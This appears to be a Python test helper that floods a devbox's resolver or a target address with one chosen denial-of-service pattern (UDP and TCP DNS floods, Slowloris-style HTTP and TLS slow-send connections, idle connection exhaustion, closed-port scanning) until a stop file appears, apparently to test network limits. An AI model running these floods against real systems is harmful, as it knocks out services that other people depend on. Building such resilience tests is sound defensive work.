"""Runs inside a devbox (standard library only): does its worst of one kind until /tmp/stop-flood exists.

Argument: a JSON object {"kind", "address", "zone", "denied"}. Makes /tmp/flood-on once it is in full swing. Prints how
many attempts it made, as JSON.
"""

import contextlib
import itertools
import json
import random
import resource
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

ON, STOP = Path("/tmp/flood-on"), Path("/tmp/stop-flood")
END_S = 90.0
SWING = 200
"""Attempts after which it counts as being in full swing."""
HELD_MAX = 900
LOOK_EVERY_S = 0.02


def queries(zone: str, denied: str) -> Iterator[bytes]:
    """Lookups of names that nobody has asked for: denied ones, allowed ones, of odd types, and broken ones."""
    for number in itertools.count():
        name = f"n{random.getrandbits(48):x}.{zone if number % 4 == 0 else denied}"
        body = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
        body += b"\0" + struct.pack("!2H", (1, 28, 16, 65)[number // 4 % 4], 1)
        message = struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + body
        yield message[: random.randrange(len(message))] if number % 32 == 31 else message


def gateway() -> str:
    """The box's resolver."""
    lines = Path("/etc/resolv.conf").read_text("ascii").splitlines()
    return next(line.split()[1] for line in lines if line.startswith("nameserver"))


def dns_udp(spec: dict[str, str]) -> Iterator[None]:
    """Queries by UDP, as fast as they can be sent; answers are left to the kernel."""
    senders = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    for sender in senders:
        sender.connect((gateway(), 53))
        sender.setblocking(False)
    for sender, query in zip(itertools.cycle(senders), queries(spec["zone"], spec["denied"]), strict=False):
        with contextlib.suppress(OSError):
            sender.send(query)
        yield


def dns_tcp(spec: dict[str, str]) -> Iterator[None]:
    """Many connections, many queries in each, and no answer is ever read."""
    asked = queries(spec["zone"], spec["denied"])
    flows: list[socket.socket] = []
    while True:
        flows += filled((gateway(), 53), 64 - len(flows))
        for flow in list(flows):
            data = b"".join(struct.pack("!H", len(query)) + query for query in itertools.islice(asked, 50))
            if not pushed(flow, data):
                flows.remove(flow)
            yield


def held(spec: dict[str, str], first: Callable[[], bytes], then: Callable[[], bytes], port: int) -> Iterator[None]:
    """As many connections as one may have, each with ``first`` and then ``then`` again and again; ended ones anew."""
    flows: list[socket.socket] = []
    while True:
        for flow in filled((spec["address"], port), min(50, HELD_MAX - len(flows))):
            if pushed(flow, first()):
                flows.append(flow)
            yield
        for flow in list(flows):
            if not pushed(flow, then()):
                flows.remove(flow)
            yield
        time.sleep(0.01)
        yield


def pushed(flow: socket.socket, data: bytes) -> bool:
    """Send what fits now; whether the connection still stands."""
    try:
        if data:
            flow.send(data)
    except BlockingIOError:
        return True
    except OSError:
        flow.close()
        return False
    return True


def filled(place: tuple[str, int], count: int) -> Iterator[socket.socket]:
    """Up to ``count`` new connections, without waiting for any of them long."""
    for _ in range(count):
        flow = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            flow.settimeout(0.2)
            flow.connect(place)
            flow.setblocking(False)
        except OSError:
            flow.close()
            return
        yield flow


def record() -> bytes:
    """The beginning of a TLS record with a ClientHello that is said to be as long as can be."""
    return b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03" + bytes(32)


def refused(spec: dict[str, str]) -> Iterator[None]:
    """Connections to ports where nobody listens, dialled before anything is said, and datagrams that no rule allows."""
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        for port in range(1, 2000):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_STREAM) as flow:
                flow.setblocking(False)
                flow.connect((spec["address"], 10000 + port))
            with contextlib.suppress(OSError):
                datagrams.sendto(bytes(1000), (spec["address"], port))
            yield


KINDS: dict[str, Callable[[dict[str, str]], Iterator[None]]] = {
    "dns by UDP": dns_udp,
    "dns by TCP": dns_tcp,
    "silent flows": lambda spec: held(spec, lambda: b"", lambda: b"", 443),
    "slow hellos": lambda spec: held(spec, record, lambda: b"a", 443),
    "giant hellos": lambda spec: held(spec, record, lambda: bytes(65536), 443),
    "slow heads": lambda spec: held(spec, lambda: b"GET / HTTP/1.1\r\n", lambda: b"a", 80),
    "endless heads": lambda spec: held(spec, lambda: b"GET / HTTP/1.1\r\n", lambda: b"a: b\r\n" * 4096, 80),
    "futile flows": refused,
}


def main() -> None:
    """One kind, to the end."""
    spec = json.loads(sys.argv[1])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end_s = time.monotonic() + END_S
    attempts, looked_s = 0, 0.0
    for _ in KINDS[spec["kind"]](spec):
        attempts += 1
        if attempts == SWING:
            ON.touch()
        if attempts % 16 == 0 and (now_s := time.monotonic()) > looked_s + LOOK_EVERY_S:
            looked_s = now_s
            if STOP.exists() or now_s > end_s:
                break
    print(json.dumps({"attempts": attempts}))


if __name__ == "__main__":
    main()
